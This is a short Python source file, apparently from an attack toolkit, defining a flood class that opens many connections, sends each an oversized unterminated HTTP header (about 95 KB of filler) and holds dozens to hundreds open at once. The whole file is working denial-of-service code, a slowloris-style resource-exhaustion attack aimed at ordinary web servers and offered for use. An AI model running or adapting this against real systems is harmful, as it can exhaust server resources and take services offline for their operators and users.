"""Heads as long as a server takes them, but for their end."""
from collections import deque

from attack.floods import Flood, push

HEAD = b'GET / HTTP/1.1\r\nHost: example.com\r\n' + b'X-Large: ' + bytes(95_000).replace(b'\0', b'x')


class GiantHeads(Flood):
    TITLE = 'giant heads, {held}'
    HELD = 40, 400

    def rounds(self):
        held = deque()
        while True:
            s = self.dial()
            push(s, HEAD)
            held.append(s)
            if len(held) > self.held:
                held.popleft().close()
            yield
